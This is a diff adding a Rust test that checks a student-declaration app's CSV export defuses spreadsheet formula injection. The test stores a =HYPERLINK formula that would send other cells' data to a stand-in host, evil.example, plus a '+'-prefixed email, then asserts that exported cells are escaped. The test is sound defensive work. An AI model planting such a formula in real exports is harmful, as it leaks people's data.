@@ -21,6 +21,7 @@ crate::on_both_engines!(
     a_file_with_a_bad_row_is_rejected_whole,
     a_dry_run_reports_without_applying,
     one_bad_row_among_100_rejects_the_file_and_is_named,
+    a_spreadsheet_never_runs_what_students_typed,
 );
 
 async fn app(engine: Engine) -> TestApp {
@@ -373,4 +374,59 @@ async fn a_dry_run_reports_without_applying(engine: Engine) {
     assert_eq!((report.applied, report.dry_run), (1, true));
     let status: StatusResponse = app.status(&lookup(11)).await.json().await.unwrap();
     assert_eq!(status.declarations[0].status.as_str(), "received");
+}
+
+async fn a_spreadsheet_never_runs_what_students_typed(engine: Engine) {
+    let app = app(engine).await;
+    let link = r#"=HYPERLINK("https://evil.example/?"&C2&D2,"voir")"#;
+    let mut typed = form(40);
+    typed["establishment"] = json!(link);
+    typed["email"] = json!("+sum@example.ma");
+    assert_eq!(app.declare(&key(), &typed).await.status(), 201);
+    let json = export(&app, json!({})).await;
+    let response = post(&app, "export")
+        .json(&json!({"format": "csv"}))
+        .send()
+        .await
+        .unwrap();
+    let text = response.text().await.unwrap();
+    let body = text.trim_start_matches('\u{FEFF}');
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    // What a spreadsheet opens: text, not a formula…
+    assert_eq!(&rows[0][column("establishment")], format!("'{link}"));
+    assert_eq!(&rows[0][column("email")], "'+sum@example.ma");
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+    }
+    // …and what reads back is what was stored.
+    let read = |name: &str| {
+        amoe_domain::operator::read_spreadsheet_cell(&rows[0][column(name)]).to_owned()
+    };
+    assert_eq!(
+        read("establishment"),
+        json.declarations[0].establishment.clone().unwrap()
+    );
+    assert_eq!(read("email"), json.declarations[0].email);
+    // A decision file saved by a spreadsheet with a cell marked as text.
+    let reference = json.declarations[0].reference.clone();
+    let file = format!(
+        "reference,decision,reason_code,reason_text,decision_date\n\
+         {reference},refused,other,'=not a formula,2026-12-01\n"
+    );
+    assert_eq!(post_file(&app, "text/csv", file).await, 200);
+    let status: StatusResponse = app.status(&lookup(40)).await.json().await.unwrap();
+    assert_eq!(
+        status.declarations[0].refusal_reason,
+        Some(amoe_domain::declaration::RefusalReason::Other {
+            text: "=not a formula".into()
+        })
+    );
 }
